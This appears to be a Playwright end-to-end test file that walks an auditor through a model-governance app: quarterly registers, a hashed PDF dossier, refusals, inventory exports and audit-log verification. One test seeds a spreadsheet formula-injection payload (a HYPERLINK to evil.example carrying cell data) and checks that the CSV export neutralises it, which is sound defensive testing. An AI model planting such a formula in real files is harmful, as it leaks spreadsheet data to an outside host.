// A quarter of an hour of an auditor, alone: populations, one sampled dossier, a blocked attempt, people who sign, files that tie out.

import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { readCsvExport } from "../lib/test/csv-export.ts";
import { filesIn, hasPoppler, openPdf, pagesOf } from "../lib/test/pdf.ts";
import { BLOCK, makes, readWorkbook, saves, takes } from "./export-steps.ts";
import { expect, expectAccessible, rest, signInAs, test } from "./fixtures.ts";
import { MODEL } from "./model-steps.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
const sha256 = (bytes: Buffer | string) => createHash("sha256").update(bytes).digest("hex");
const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const QUARTER = { from: day(-92), to: day(0) };

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  await signInAs(page, "data-scientist");
  const { body: units } = await rest(page, "GET", "/units");
  const made = await rest(page, "POST", "/models", { ...MODEL, name: FORMULA, businessUnit: units.items[0].id });
  expect(made.status).toBe(201);
  const blocked = await rest(page, "POST", `/versions/${made.body.currentVersionId}/transitions`, { to: "in_development" });
  expect(blocked.status).toBe(409);
  const taken = await rest(page, "POST", "/exports", { kind: "inventory", format: "csv" });
  expect(taken.status, "a data scientist takes no inventory").toBe(403);
  await page.context().close();
});

test.beforeEach(async ({ page }) => signInAs(page, "auditor"));

test("approvals of the quarter, and the dossier of one of them, whose hash is the one REST gives", async ({ page }) => {
  const { bytes } = await takes(page, { kind: "register", register: "approvals", format: "csv", ...QUARTER });
  const { block, rows, data } = readCsvExport(bytes);
  expect(rows.length).toBeGreaterThan(1);
  await expect(page.getByText(`It would hold ${rows.length} rows now.`)).toBeVisible();
  for (const label of BLOCK) expect(block[label], label).toBeTruthy();
  expect(block["SHA-256 of the data part"]).toBe(sha256(data));
  expect(Number(block["Rows in this file"])).toBe(rows.length);
  expect(block["Rows that match"]).toBe(block["Rows in this file"]);
  const sampled = rows.findLast((row) => row.Transition === "T4" && row["State of request"] === "approved");
  expect(sampled).toBeDefined();
  const { body: request } = await rest(page, "GET", `/transitions/${sampled?.Request}`);
  await page.goto(`/models/${request.modelId}/versions/${request.versionId}`);
  await page.getByRole("link", { name: "Dossier as PDF" }).click();
  await expect(page.getByText(`Of ${sampled?.Ref}`)).toBeVisible();
  await makes(page);
  const dossier = await saves(page);
  const pdf = await openPdf(dossier.bytes);
  const pages = await pagesOf(pdf);
  for (const label of BLOCK) expect(pages.join(" "), label).toContain(label);
  const hashes = (await filesIn(pdf)).map(({ content }) => sha256(content));
  expect(hashes).toContain(request.dossierHash);
  expect(hashes).toContain(sampled?.["Manifest hash"]);
  const { body: version } = await rest(page, "GET", `/versions/${request.versionId}`);
  for (const hash of [version.dossierHash, request.dossierHash]) expect(pages[0]?.replaceAll(" ", "")).toContain(hash);
  for (const name of ["Signatures that stand", "Open points", "Risk tier"]) expect(pages[0]).toContain(name);
  readByPoppler(dossier.bytes, version.dossierHash);
});

/** A second reader, where there is one. */
function readByPoppler(bytes: Buffer, hash: string) {
  if (!hasPoppler()) return;
  const path = test.info().outputPath("dossier.pdf");
  writeFileSync(path, bytes);
  expect(execFileSync("pdfinfo", [path], { encoding: "utf8" })).toMatch(/Tagged:\s+yes/);
  expect(execFileSync("pdftotext", ["-l", "1", path, "-"], { encoding: "utf8" })).toContain(hash);
}

test("a blocked attempt with its rule, the people who may sign, and no rows said as a result", async ({ page }) => {
  const refusals = readCsvExport(
    (await takes(page, { kind: "register", register: "refusals", format: "csv", ...QUARTER })).bytes,
  );
  const mine = refusals.rows.find((row) => row.Model?.includes("HYPERLINK"));
  expect(mine).toMatchObject({ Person: "Demo data scientist", Event: "transition.refused" });
  expect(mine?.Rule).not.toBe("");
  expect(mine?.["What it says"]).toMatch(/\w+ \w+/);
  const access = readCsvExport((await takes(page, { kind: "register", register: "access", format: "csv", on: day(0) })).bytes);
  const signers = access.rows.filter(({ Role }) => Role === "risk_officer");
  expect(signers.map(({ Person }) => Person)).toContain("Demo risk officer");
  for (const row of signers) expect(row["Granted by"]).not.toBe("");
  const none = readCsvExport(
    (await takes(page, { kind: "register", register: "deployments", format: "csv", from: "2001-01-01", to: "2001-03-31" })).bytes,
  );
  expect(none.rows).toEqual([]);
  expect(none.block.Result).toMatch(/^No rows: 0 of \d+ match\.$/);
});

test("the inventory as workbook and CSV, where a name that looks like a formula stays a name", async ({ page }) => {
  const { bytes } = await takes(page, { kind: "inventory", format: "csv" });
  const csv = readCsvExport(bytes);
  expect(csv.rows.map((row) => row.Name)).toContain(`'${FORMULA}`);
  const [about = [], rows = []] = await readWorkbook((await takes(page, { kind: "inventory", format: "xlsx" })).bytes);
  const block = Object.fromEntries(about.map(([label, value]) => [String(label), String(value)]));
  for (const label of [...BLOCK, "Records in the inventory"]) expect(block[label], label).toBeTruthy();
  expect(Number(block["Rows in this file"])).toBe(rows.length - 1);
  expect(rows.length - 1).toBe(csv.rows.length);
  const name = rows[0]?.indexOf("Name") ?? -1;
  expect(rows.map((cells) => cells[name])).toContain(FORMULA);
});

test("the audit log as CSV and JSON: each entry whole, its hash computed again", async ({ page }) => {
  const csv = readCsvExport((await takes(page, { kind: "audit-log", format: "csv", ...QUARTER })).bytes);
  for (const label of BLOCK) expect(csv.block[label], label).toBeTruthy();
  expect(csv.rows.map((row) => row["In words"]).join("\n")).toContain("Demo auditor asked for an export");
  const text = (await takes(page, { kind: "audit-log", format: "json", ...QUARTER })).bytes.toString("utf8");
  const { block, items } = JSON.parse(text);
  const lines = Object.fromEntries(block.lines.map(({ label, value }: { label: string; value: string }) => [label, value]));
  for (const label of BLOCK) expect(lines[label], label).toBeTruthy();
  const from = text.indexOf('"items": ') + '"items": '.length;
  expect(sha256(text.slice(from, text.lastIndexOf("\n}\n")))).toBe(block.dataSha256);
  expect(items).toHaveLength(block.rows);
});

test("what was taken is found again, and is on record as sentences with fields before and after", async ({ page }) => {
  await page.goto("/audit/exports");
  await expect(page.getByRole("row", { name: /Register of approvals CSV/ }).first()).toBeVisible();
  await expectAccessible(page);
  await page.goto("/audit?event=export");
  await expect(page.getByText("Demo auditor asked for an export: the register of approvals as csv.").first()).toBeVisible();
  await page.goto("/audit?event=model");
  const entry = page.getByRole("listitem").filter({ hasText: "model.registered" }).first();
  await entry.getByText(/rows? changed/).click();
  await expect(entry.getByText("Purpose", { exact: true }).first()).toBeVisible();
  await expectAccessible(page);
});

test("the ledger is verified by a button, with how far it is and what it found", async ({ page }) => {
  await page.goto("/audit/verification");
  const before = await page.getByRole("heading", { name: /^Asked by/ }).count();
  await page.getByRole("button", { name: "Verify now" }).click();
  await expect(page.getByRole("heading", { name: /^Asked by/ })).not.toHaveCount(before > 9 ? 0 : before);
  await expect(page.getByText("Everything holds").first()).toBeVisible({ timeout: 60_000 });
  await expect(page.getByText(/entries recomputed, the rows of \d+ tables compared/).first()).toBeVisible();
  await expectAccessible(page);
});
